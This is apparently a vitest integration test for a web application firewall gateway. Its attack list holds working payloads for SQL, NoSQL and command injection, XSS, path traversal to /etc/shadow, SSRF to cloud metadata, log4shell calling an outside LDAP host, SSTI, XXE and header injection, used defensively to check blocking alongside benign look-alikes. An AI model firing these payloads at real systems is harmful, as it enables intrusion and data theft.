// Attacks of every detector family, placed in every part of a request, through the real gateway
// (default factories, default profile) against a real upstream on loopback: block mode answers
// 403 and records where it found what; monitor mode forwards and records what it would have
// blocked; benign look-alikes of each family reach the upstream unchanged.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GatewayEvent } from '../../src/core/event.js';
import {
  echoHandler,
  oneRoute,
  type StartedGateway,
  type StartedUpstream,
  startGateway,
  startUpstream,
} from '../helpers/gateway.js';

interface Probe {
  name: string;
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string;
  detector: string;
  /** Prefix of the finding's location. */
  location: string;
}

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const q = encodeURIComponent;

const ATTACKS: Probe[] = [
  {
    name: 'sqli probe in a query',
    path: `/items?sort=${q('concat(')}`,
    detector: 'sqli',
    location: 'query.sort',
  },
  {
    name: 'sqli tautology in a JSON leaf',
    method: 'POST',
    path: '/login',
    headers: json,
    body: JSON.stringify({ user: { name: "admin' or '1'='1" } }),
    detector: 'sqli',
    location: 'body.$.user.name',
  },
  {
    name: 'cmdi in a form field',
    method: 'POST',
    path: '/ping',
    headers: form,
    body: `host=${q('127.0.0.1; cat /etc/passwd')}`,
    detector: 'cmdi',
    location: 'body.host',
  },
  {
    name: 'xss in a path segment',
    path: `/p/${q('"><svg onload=alert(1)>')}`,
    detector: 'xss',
    location: 'path',
  },
  {
    name: 'path traversal to a model file',
    path: `/models/download?file=${q('../../../../etc/shadow')}`,
    detector: 'path-traversal',
    location: 'query.file',
  },
  {
    name: 'remote inclusion probe',
    path: `/page?template=${q('ftp://203.0.113.9/shell.txt?')}`,
    detector: 'path-traversal',
    location: 'query.template',
  },
  {
    name: 'ssrf to cloud metadata in JSON',
    method: 'POST',
    path: '/fetch',
    headers: json,
    body: JSON.stringify({ url: 'http://[::ffff:a9fe:a9fe]/latest/meta-data/' }),
    detector: 'ssrf',
    location: 'body.$.url',
  },
  {
    name: 'prototype pollution key',
    method: 'POST',
    path: '/settings',
    headers: json,
    body: '{"theme":"dark","__proto__":{"isAdmin":true}}',
    detector: 'code-injection',
    location: 'body',
  },
  {
    name: 'log4shell in a header',
    path: '/',
    headers: { 'x-api-version': '${jndi:ldap://203.0.113.9/a}' },
    detector: 'log4shell',
    location: 'header.x-api-version',
  },
  {
    name: 'ssti in a cookie',
    path: '/',
    headers: { cookie: `name=${q('{{7*7}}{{config.items()}}')}` },
    detector: 'ssti',
    location: 'cookie.name',
  },
  {
    name: 'nosqli operator in JSON',
    method: 'POST',
    path: '/login',
    headers: json,
    body: JSON.stringify({ user: 'admin', password: { $ne: null } }),
    detector: 'nosqli',
    location: 'body',
  },
  {
    name: 'header injection in a redirect parameter',
    path: `/go?next=${q('/home\r\nSet-Cookie: session=attacker')}`,
    detector: 'header-injection',
    location: 'query.next',
  },
  {
    name: 'xxe in an XML body',
    method: 'POST',
    path: '/import',
    headers: { 'content-type': 'application/xml' },
    body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    detector: 'xxe',
    location: 'body',
  },
  {
    name: 'number-parser crash constant',
    path: '/convert?amount=2.2250738585072011e-308',
    detector: 'sqli',
    location: 'query.amount',
  },
  {
    name: 'sqli in a multipart field',
    method: 'POST',
    path: '/upload',
    headers: { 'content-type': 'multipart/form-data; boundary=XyZ' },
    body: [
      '--XyZ',
      'Content-Disposition: form-data; name="title"',
      '',
      "x' UNION SELECT username, password FROM users--",
      '--XyZ--',
      '',
    ].join('\r\n'),
    detector: 'sqli',
    location: 'body.title',
  },
];

/** Values that look like each family to a keyword list, and are ordinary API data. */
const BENIGN: Omit<Probe, 'detector' | 'location'>[] = [
  { name: 'a search about SQL', path: `/search?q=${q('how to select from two tables in order')}` },
  { name: 'an Irish surname', path: `/users?name=${q("Pat O'Brien")}` },
  {
    name: 'a DB admin payload',
    method: 'POST',
    path: '/columns',
    headers: json,
    body: JSON.stringify({ column: 'group', type: 'varchar', collation: 'utf8_unicode_ci', default: null }),
  },
  {
    name: 'a multi-line support message',
    method: 'POST',
    path: '/tickets',
    headers: json,
    body: JSON.stringify({
      message: 'Hi,\nSteps: open the page & click "Save"\nBrowser: Mozilla/5.0\nThanks',
    }),
  },
  {
    name: 'file metadata with absolute paths',
    method: 'POST',
    path: '/files',
    headers: json,
    body: JSON.stringify({ directory: '/usr/share/fonts', path: '/opt/app/static/logo.png', size: 2048 }),
  },
  {
    name: 'a webhook URL and a cron line',
    method: 'POST',
    path: '/jobs',
    headers: form,
    body: `callback_url=${q('https://hooks.example.com/x?id=1')}&schedule=${q('*/5 * * * *')}`,
  },
  {
    name: 'markdown with a link',
    method: 'POST',
    path: '/reviews',
    headers: json,
    body: JSON.stringify({
      body: '## Pros\n- **light**\nSee [the manual](https://example.com/m.pdf) for sizes & care.',
    }),
  },
  {
    name: 'a private address in an inventory field',
    method: 'POST',
    path: '/devices',
    headers: json,
    body: JSON.stringify({ ip: '240.12.1.9', cgnat: '100.64.3.4' }),
  },
  { name: 'a big but ordinary number', path: '/disk?bytes=4294967296' },
];

async function send(base: string, p: Omit<Probe, 'detector' | 'location'>): Promise<Response> {
  return fetch(`${base}${p.path}`, { method: p.method ?? 'GET', headers: p.headers, body: p.body });
}

/** The event of one response, by the request id the gateway put on it. */
async function eventOf(gw: StartedGateway, res: Response): Promise<GatewayEvent | undefined> {
  const id = res.headers.get('x-request-id');
  expect(id).toBeTruthy();
  return (await gw.events()).find((e) => e.requestId === id);
}

describe('attacks and look-alikes through the real gateway', () => {
  let upstream: StartedUpstream;
  let blocking: StartedGateway;
  let monitoring: StartedGateway;
  beforeAll(async () => {
    upstream = await startUpstream(echoHandler);
    blocking = await startGateway(oneRoute(upstream.url, { mode: 'block' }));
    monitoring = await startGateway(oneRoute(upstream.url, { mode: 'monitor' }));
  });
  afterAll(async () => {
    await blocking?.close();
    await monitoring?.close();
    await upstream?.close();
  });

  it.each(ATTACKS)('blocks $name (403, event names $detector at $location)', async (probe) => {
    const res = await send(blocking.url, probe);
    expect(res.status).toBe(403);
    const answer = (await res.json()) as Record<string, unknown>;
    expect(JSON.stringify(answer)).not.toContain('stack');
    const event = await eventOf(blocking, res);
    expect(event?.action).toBe('blocked');
    const finding = event?.findings.find((f) => f.detector === probe.detector);
    expect(finding, JSON.stringify(event?.findings)).toBeDefined();
    expect(finding?.location?.startsWith(probe.location)).toBe(true);
  });

  it.each(ATTACKS)('monitor mode forwards $name and records what it would have blocked', async (probe) => {
    const res = await send(monitoring.url, probe);
    expect(res.status).toBe(200);
    await res.arrayBuffer();
    const event = await eventOf(monitoring, res);
    expect(event?.action).toBe('monitored');
    expect(event?.findings.some((f) => f.detector === probe.detector && f.mode === 'monitor')).toBe(true);
  });

  it.each(BENIGN)('forwards $name unchanged', async (probe) => {
    const res = await send(blocking.url, probe);
    expect(res.status).toBe(200);
    const echoed = (await res.json()) as { url: string; body: string };
    expect(decodeURIComponent(echoed.url)).toBe(decodeURIComponent(probe.path));
    expect(echoed.body).toBe(probe.body ?? '');
  });
});
